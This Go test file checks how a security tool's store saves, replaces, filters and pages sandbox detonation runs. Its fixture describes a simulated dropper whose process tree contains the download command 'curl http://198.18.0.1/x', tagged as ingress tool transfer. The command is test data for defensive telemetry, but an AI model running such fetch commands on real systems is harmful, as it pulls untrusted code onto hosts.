package storetest

import (
	"errors"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/quarry-sec/quarry/fleet/store"
	"github.com/quarry-sec/quarry/telemetry"
)

// sandboxRun is a reported run of the suite.
func sandboxRun(id, verdict string, started time.Time, techniques ...string) store.SandboxRun {
	return store.SandboxRun{
		SandboxRun: telemetry.SandboxRun{ID: id, Origin: "detonate", Host: "lab", Sample: "dropper-" + id + ".sh",
			SHA256: strings.Repeat("a", 64), SHA1: strings.Repeat("b", 40), MD5: strings.Repeat("c", 32), Size: 120,
			Started: started, Duration: 1500 * time.Millisecond, Verdict: verdict, Score: 8.5,
			Techniques: techniques, Tactics: []string{"TA0002", "TA0011"}},
		Tree: []store.IncidentNode{
			{ProcessKey: "k1", Depth: 0, Relation: "self", PID: 10, PPID: 1, Path: "/bin/sh", Cmdline: "sh /tmp/sample",
				Start: started, Techniques: []string{}, Tactics: []string{}},
			{ProcessKey: "k2", ParentKey: "k1", Depth: 1, Relation: "descendant", PID: 11, PPID: 10, Path: "/usr/bin/curl",
				Cmdline: "curl http://198.18.0.1/x", Start: started.Add(time.Second), HitCount: 1,
				Techniques: []string{"T1105"}, Tactics: []string{}, Severity: "high", Activity: mshtaActivity},
		},
		Files:   []telemetry.SandboxFile{{Path: "/tmp/x", Actions: []string{"write"}, Process: "/usr/bin/curl", SHA256: "ab", Size: 3}},
		Network: []telemetry.SandboxDestination{{Kind: "connect", Dest: "198.18.0.1:80", Process: "/usr/bin/curl"}},
		Rules: []telemetry.SandboxRule{{ID: "r1", Title: "Download with curl", Source: "builtin", Author: "Quarry",
			Severity: "high", Description: "Fetches a file", Recommendations: "Block the domain", Techniques: []string{"T1105"}, Hits: 1}},
		Reported: started.Add(time.Minute),
	}
}

func runIDs(runs []store.SandboxRun) string {
	var ids []string
	for _, r := range runs {
		ids = append(ids, r.ID+"@"+r.HostIdentifier)
	}
	return strings.Join(ids, " ")
}

// testSandboxRuns: runs are stored once per (host, run ID), replaced by a
// newer report and not by an older one; reads filter by host, verdict,
// technique (with sub-techniques) and start, page newest first, and a run
// reads back whole (tree, files, network, rules).
func testSandboxRuns(t *testing.T, s store.Store) {
	a := enroll(t, s, "host-a", "ka", "linux")
	b := enroll(t, s, "host-b", "kb", "linux")
	r1 := sandboxRun("run-1", "malicious", base, "T1059.004", "T1105")
	r2 := sandboxRun("run-2", "clean", base.Add(time.Hour))
	for range 2 { // sent again: stored once
		if err := s.AppendLogs(ctx, a.ID, &store.LogBatch{SandboxRuns: []store.SandboxRun{r1, r2}}); err != nil {
			t.Fatal(err)
		}
	}
	// Another host's run of the same ID is its own.
	if err := s.AppendLogs(ctx, b.ID, &store.LogBatch{SandboxRuns: []store.SandboxRun{r1}}); err != nil {
		t.Fatal(err)
	}
	list := func(f store.SandboxRunFilter) ([]store.SandboxRun, int) {
		t.Helper()
		runs, total, err := s.SandboxRuns(ctx, f)
		if err != nil {
			t.Fatal(err)
		}
		return runs, total
	}
	for _, c := range []struct {
		f     store.SandboxRunFilter
		want  string
		total int
	}{
		{store.SandboxRunFilter{}, "run-2@host-a run-1@host-a run-1@host-b", 3},
		{store.SandboxRunFilter{HostIDs: []string{b.ID}}, "run-1@host-b", 1},
		{store.SandboxRunFilter{Verdicts: []string{"clean"}}, "run-2@host-a", 1},
		{store.SandboxRunFilter{Technique: "T1059"}, "run-1@host-a run-1@host-b", 2},
		{store.SandboxRunFilter{Technique: "t1105"}, "run-1@host-a run-1@host-b", 2},
		{store.SandboxRunFilter{Technique: "T1105.001"}, "", 0},
		{store.SandboxRunFilter{Technique: "T10%"}, "", 0},
		{store.SandboxRunFilter{Since: base.Add(time.Minute)}, "run-2@host-a", 1},
		{store.SandboxRunFilter{Until: base.Add(time.Minute)}, "run-1@host-a run-1@host-b", 2},
		{store.SandboxRunFilter{Limit: 1, Offset: 1}, "run-1@host-a", 3},
	} {
		runs, total := list(c.f)
		if got := runIDs(runs); got != c.want || total != c.total {
			t.Errorf("%+v: got %q (total %d), want %q (%d)", c.f, got, total, c.want, c.total)
		}
	}
	got, err := s.SandboxRun(ctx, a.ID, "run-1")
	if err != nil {
		t.Fatal(err)
	}
	want := r1
	want.HostID, want.HostIdentifier, want.Hostname = a.ID, "host-a", "host-a.local"
	want.ReceivedAt = got.ReceivedAt
	for i := range want.Tree {
		want.Tree[i].Reported = want.Reported
	}
	if !reflect.DeepEqual(got, &want) {
		t.Errorf("SandboxRun:\n got %+v\nwant %+v", got, &want)
	}
	if got.ReceivedAt.IsZero() {
		t.Errorf("ReceivedAt not set")
	}
	// An older report changes nothing; a newer one replaces the run.
	old := sandboxRun("run-1", "clean", base)
	old.Reported = r1.Reported.Add(-time.Second)
	newer := sandboxRun("run-1", "suspicious", base, "T1105")
	newer.Reported = r1.Reported.Add(time.Second)
	newer.Tree = newer.Tree[:1]
	if err := s.AppendLogs(ctx, a.ID, &store.LogBatch{SandboxRuns: []store.SandboxRun{old}}); err != nil {
		t.Fatal(err)
	}
	if got, err := s.SandboxRun(ctx, a.ID, "run-1"); err != nil || got.Verdict != "malicious" {
		t.Errorf("after an older report: %+v, %v", got, err)
	}
	if err := s.AppendLogs(ctx, a.ID, &store.LogBatch{SandboxRuns: []store.SandboxRun{newer}}); err != nil {
		t.Fatal(err)
	}
	if got, err := s.SandboxRun(ctx, a.ID, "run-1"); err != nil || got.Verdict != "suspicious" || len(got.Tree) != 1 ||
		!reflect.DeepEqual(got.Techniques, []string{"T1105"}) {
		t.Errorf("after a newer report: %+v, %v", got, err)
	}
	if _, err := s.SandboxRun(ctx, b.ID, "run-2"); !errors.Is(err, store.ErrNotFound) {
		t.Errorf("another host's run: %v, want ErrNotFound", err)
	}
	// The list leaves the tree out.
	if runs, _ := list(store.SandboxRunFilter{HostIDs: []string{a.ID}}); len(runs) != 2 || len(runs[0].Tree) != 0 {
		t.Errorf("list %+v", runs)
	}
}
